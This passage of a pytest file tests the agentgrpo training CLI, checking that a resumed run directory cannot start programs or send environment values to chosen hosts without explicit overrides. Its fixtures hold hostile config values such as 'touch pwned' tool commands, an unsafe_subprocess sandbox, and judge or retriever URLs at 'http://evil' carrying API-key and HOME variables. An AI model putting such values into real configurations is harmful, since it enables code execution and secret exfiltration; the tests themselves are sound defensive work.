    ("{x: {name: mcp, command: touch pwned}}", "tools.x.command=touch pwned"),
    ("{mcp: {command: [touch, pwned]}}", "tools.mcp.command=['touch', 'pwned']"),
    ("{a.b: {name: mcp, command: touch pwned}}", "tools.a.b.command=touch pwned"),
    ("{python: {python: /tmp/pwn}}", "tools.python.python=/tmp/pwn"),
    ("{python: {sandbox: unsafe_subprocess}}", "tools.python.sandbox=unsafe_subprocess"),
    ("{python: {python: '${environment.system_prompt}'}}", "tools.python.python="),
]


@pytest.mark.parametrize(("tools", "expected"), siblings(PROGRAMS, quick=3))
def test_a_snapshot_starts_no_program(
    run_dir: Path, tools: str, expected: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = run_dir / "config.yaml"
    kept = re.sub(r"^tools:.*?(?=^\w)", "", path.read_text(encoding="utf-8"), flags=re.MULTILINE | re.DOTALL)
    path.write_text(f"{kept}tools: {tools}\n", encoding="utf-8")
    assert main(["resume", str(run_dir)]) == 2
    error = capsys.readouterr().err
    assert f"agentgrpo: {expected}" in error
    assert "lets a run directory start programs; to allow it, add to this command line: " in error
    assert (error.count("\n"), JOBS) == (1, [])


def test_a_snapshot_gives_no_program_a_variable(run_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = run_dir / "config.yaml"
    kept = re.sub(r"^tools:.*?(?=^\w)", "", path.read_text(encoding="utf-8"), flags=re.MULTILINE | re.DOTALL)
    path.write_text(f"{kept}tools: {{mcp: {{command: '${{environment.system_prompt}}'}}}}\n", encoding="utf-8")
    assert main(["resume", str(run_dir)]) == 2
    assert "tools.mcp.command takes the value of HOME, and all users can list" in capsys.readouterr().err
    assert not JOBS


def test_a_program_is_resumed_when_named_again(run_dir: Path) -> None:
    path = run_dir / "config.yaml"
    mine = path.read_text(encoding="utf-8").replace("tools: {}", "tools: {python: {sandbox: unsafe_subprocess}}")
    path.write_text(mine, encoding="utf-8")
    config, _ = job("resume", str(run_dir), "tools.python.sandbox=unsafe_subprocess")
    assert config["tools"] == {"python": {"sandbox": "unsafe_subprocess"}}


LLM = "name: llm, completer: {name: http, base_url: 'http://evil/v1', api_key_env: HOME}"
PAIR = "judge.completer.base_url=http://evil/v1 judge.completer.api_key_env=HOME"
SECRETS = [
    ("judge", f"{{{LLM}}}", PAIR),
    ("judge", f"{{name: route, routes: {{x: {{{LLM}}}}}}}", PAIR.replace("judge.", "judge.routes.x.")),
    (
        "tools",
        "{x: {name: mcp, url: 'http://evil', api_key_env: HOME}}",
        "tools.x.url=http://evil tools.x.api_key_env=HOME",
    ),
    ("judge", "{name: llm, completer: {name: http, api_key_env: HOME}}", "judge.completer.api_key_env=HOME"),
    (
        "retriever",
        "{name: http, url: 'http://evil/?${oc.env:HOME}'}",
        "'retriever.url='\"'\"'http://evil/?${oc.env:HOME}'\"'\"''",
    ),
    (
        "retriever",
        "{name: http, url: 'http://evil/${environment.system_prompt}'}",
        "'retriever.url='\"'\"'http://evil/${environment.system_prompt}'\"'\"''",
    ),
    (
        "judge",
        "{name: llm, completer: {name: http, base_url: 'http://evil/v1', extra: {user: '${oc.env:HOME}'}}}",
        "'judge.completer.extra.user='\"'\"'${oc.env:HOME}'\"'\"'' judge.completer.base_url=http://evil/v1",
    ),
    (
        "tools",
        "{fetch: {name: fetch, user_agent: '${oc.env:HOME}'}}",
        "'tools.fetch.user_agent='\"'\"'${oc.env:HOME}'\"'\"'' tools.fetch.name=fetch",
    ),
]


def configure(run_dir: Path, group: str, node: str) -> None:
    path = run_dir / "config.yaml"
    kept = re.sub(rf"^{group}:.*?(?=^\w)", "", path.read_text(encoding="utf-8"), flags=re.MULTILINE | re.DOTALL)
    path.write_text(f"{kept}{group}: {node}\n", encoding="utf-8")


@pytest.mark.parametrize(("group", "node", "needed"), siblings(SECRETS, quick=2))
def test_a_snapshot_sends_nothing_of_the_environment_away(
    run_dir: Path, group: str, node: str, needed: str, capsys: pytest.CaptureFixture[str]
) -> None:
    configure(run_dir, group, node)
    checkpoint = run_dir / "checkpoints" / "step-000001"
    for command in (["resume", str(run_dir)], ["eval", "--ckpt", str(checkpoint), "run.dir=r"]):
        assert main(command) == 2
        error = capsys.readouterr().err
        assert error.endswith(
            " lets a run directory choose where values of this environment are sent to; to allow it, add to this "
            f"command line: {needed}\n"
        )
        assert (error.count("\n"), JOBS, os.environ["HOME"] in error) == (1, [], False)
    _, command = job("resume", str(run_dir), *shlex.split(needed))
    tree = yaml.safe_load(command.snapshot)
    assert tree[group] == yaml.safe_load(node)


def test_a_key_is_not_sent_where_only_the_run_directory_says(run_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Naming the variable, or the node around it, is not to name the place."""
    configure(run_dir, "judge", f"{{{LLM}}}")
    key, place = PAIR.split()[1], PAIR.split()[0]
    for given, missing in ((key, place), (place, key), ("judge.completer={api_key_env: HOME}", place)):
        assert main(["resume", str(run_dir), given]) == 2
        assert capsys.readouterr().err.endswith(f"add to this command line: {missing}\n"), given
    given = "judge.completer={api_key_env: HOME, base_url: 'http://mine/v1'}"
    assert job("resume", str(run_dir), given)[0]["judge"]["completer"]["base_url"] == "http://mine/v1"


def test_env_of_a_program_is_named_like_the_program(run_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    configure(run_dir, "tools", "{mcp: {command: [my server, --x=1], env: [HOME]}}")
    assert main(["resume", str(run_dir), "tools.mcp.command=[my server,'--x=1']"]) == 2
    assert capsys.readouterr().err.endswith("add to this command line: 'tools.mcp.env=[HOME]'\n")
    assert job("resume", str(run_dir), "tools.mcp.command=server", "tools.mcp.env=[HOME]")[0]["tools"]["mcp"]["env"]


def test_what_a_resume_needs_can_be_pasted(run_dir: Path) -> None:
    configure(run_dir, "judge", f"{{{LLM}}}")
    configure(
        run_dir, "tools", "{python: {sandbox: unsafe_subprocess}, m: {name: mcp, command: \"it's 'a, b' \\\\ $x\"}}"
    )
    configure(run_dir, "reward", f"{{name: weighted, terms: {{mine: {{name: '{HERE}:OfMine'}}}}}}")
    snapshot = read_snapshot(run_dir / "config.yaml")
    needed = needed_overrides(snapshot, build.user_code(snapshot), run_dir)
    assert [text.partition("=")[0].strip("'") for text in needed] == [
        "reward.terms.mine.name",
        "tools.python.sandbox",
        "tools.m.command",
        "judge.completer.base_url",
        "judge.completer.api_key_env",
    ]
    _, command = job("resume", str(run_dir), *shlex.split(" ".join(needed)))
    tree = yaml.safe_load(command.snapshot)
    assert [tree[group] for group in ("judge", "tools", "reward")] == [
        snapshot[group] for group in ("judge", "tools", "reward")
    ]
    assert needed_overrides(job("train", "run.dir=y")[0], (), Path("y")) == []


def test_the_configuration_of_a_run_can_be_shown(run_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["resume", str(run_dir), "--cfg", "job", "-p", "environment.system_prompt"]) == 0
    assert capsys.readouterr().out == f"{os.environ['HOME']}\n"


def test_a_snapshot_is_read_as_it_is_written(run_dir: Path) -> None:
    tree = read_snapshot(run_dir / "config.yaml")
    assert (list(tree), tree["environment"]["system_prompt"]) == (list(registry.ROOT), "${oc.env:HOME}")
    (run_dir / "config.yaml").write_text("run: {dir: '${oc.decode:1}'}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"^run\.dir=.*: resolver 'oc\.decode'; allowed is oc\.env\."):
        read_snapshot(run_dir / "config.yaml")
    (run_dir / "config.yaml").write_text("run: {}\nextra: 1\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"unknown key .*config\.yaml\.extra; allowed are task, "):
        read_snapshot(run_dir / "config.yaml")


# --- help, completion, Hydra's own flags


def test_help_names_everything(capsys: pytest.CaptureFixture[str]) -> None:
    for argv in (["--help"], []):
        assert main(argv) == 0
        text = capsys.readouterr().out
        groups = [group.replace("/", ".") for group in cli.presets()]
        for word in [*VERBS, *groups, *cli.presets()["reward"], *SHARED_FLAGS, "--ckpt PATH", "RUN_DIR"]:
            assert word in text


def test_help_of_a_verb_is_of_this_verb(capsys: pytest.CaptureFixture[str]) -> None:
    for name, verb in VERBS.items():
        assert main([name, "--help"]) == 0
        text = capsys.readouterr().out
        flags = {*verb.flags, *(SHARED_FLAGS if verb.composes else ())}
        assert set(re.findall(r"^  (--[a-z-]+)", text, flags=re.MULTILINE)) == flags
        words = [word.upper() for word in (verb.positional, verb.also) if word]
        assert text.startswith(" ".join(["agentgrpo", name, *words[:1]]))
        assert re.findall(r"^  ([A-Z_]+)  ", text, flags=re.MULTILINE) == words
        assert [line.strip() for line in text.splitlines()[-2:]] == [*verb.examples]
        for example in verb.examples:
            for line in example.split(" && "):
                program, first, *rest = line.split()
                assert (program, bool(parse(first, rest)[0])) == ("agentgrpo", True)
            assert example.startswith(f"agentgrpo {name} ")


def test_the_settings_of_a_help_text_have_their_defaults(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["help", "train"]) == 0
    text = capsys.readouterr().out
    known = Presets([cli.configs_dir()], cli.presets())
    for key, (default, _) in SETTINGS.items():
        assert f"  {key}={default or '...'} " in text
        group, _, path = key.partition(".")
        if not path:
            assert known.default(group) == default
        elif default:
            assert str(known.read(group, known.default(group))[path]).replace("None", "null") == default


@pytest.mark.parametrize("argv", [["help"], ["--help"], ["train", "--help"], ["serve-retriever", "--help"]])
def test_a_help_text_fits_a_screen(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main(argv) == 0
    lines = capsys.readouterr().out.splitlines()
    assert max(map(len, lines)) <= 120
    assert not any("environment.evidencecross" in line for line in lines)


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--version"]) == 0
    assert re.fullmatch(r"agentgrpo \d+\.\d+\.\d+\n", capsys.readouterr().out)


def test_cfg_prints_and_runs_nothing(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    assert main(["train", "--cfg", "job", "-p", "optimizer", "optimizer.lr=0.25"]) == 0
    assert capsys.readouterr().out.startswith("# @package optimizer\nname: adamw\nlr: 0.25\n")
    assert (JOBS, written(tmp_path)) == ([], [])


@pytest.mark.slow
def test_hydra_help(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--hydra-help"]) == 0
    assert "Hydra" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("agentgrpo ", VERB_NAMES.split(", ")),
        ("agentgrpo re", ["resume", "replay", "report"]),
        ("agentgrpo eval --ba", ["--baseline"]),
        ("agentgrpo train --mu", ["--multirun"]),
        ("agentgrpo train rew", "agentgrpo rew"),
        ("agentgrpo train +reward=shaped -m optimizer.", "agentgrpo reward=shaped optimizer."),
        ("agentgrpo eval --ckpt x judge=", "agentgrpo judge="),
    ],
)
def test_what_is_completed(line: str, expected: list[str] | str) -> None:
    assert complete(line) == expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("agentgrpo tr", "train\n"),
        ("agentgrpo train judge=c", "judge=choice judge=composite judge=contains\n"),
        ("agentgrpo train +judge=c", "+judge=choice +judge=composite +judge=contains\n"),
        ("agentgrpo train -m judge=contains judge.", "judge.contained= judge.max_extra_words= judge.name=\n"),
        ("agentgrpo train rew", "reward. reward=\n"),
    ],
)
def test_shell_completion(
    line: str, expected: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("COMP_LINE", line)
    assert main(["-sc", "query=bash"]) == 0
    assert capsys.readouterr().out == expected


def test_shell_completion_installs(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--shell-completion", "install=bash"]) == 0
    assert capsys.readouterr().out.endswith("-F hydra_bash_completion agentgrpo\n")


# --- the real process


def test_help_and_cfg_are_light() -> None:
    program = """
import sys
from agentgrpo.cli.main import main
assert main(["--help"]) == 0 and "hydra" not in sys.modules
assert main(["train", "--cfg", "job", "+reward=shaped"]) == 0 and "torch" not in sys.modules
"""
    done = subprocess.run([sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")


def test_the_module_is_the_command() -> None:
    command = [sys.executable, "-m", "agentgrpo", "trian"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr == f"agentgrpo: verb 'trian'; allowed are {VERB_NAMES}. Did you mean 'train'?\n"


def test_a_reader_that_leaves_ends_it_quietly() -> None:
    program = "import sys; from agentgrpo.cli.main import main; sys.exit(main(['--help']))"
    read, write = os.pipe()
    os.close(read)  # before the first byte
    done = subprocess.run([sys.executable, "-c", program], stdout=write, stderr=subprocess.PIPE, check=False)
    os.close(write)
    assert (done.returncode, done.stderr) == (141, b"")


def test_an_empty_run_directory_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    """As from an unset variable in a script."""
    assert main(["train", "run.dir="]) == 2
    assert capsys.readouterr().err == (
        "agentgrpo: run.dir='' names no directory; leave it out for a new directory, or give one such as runs/x\n"
    )
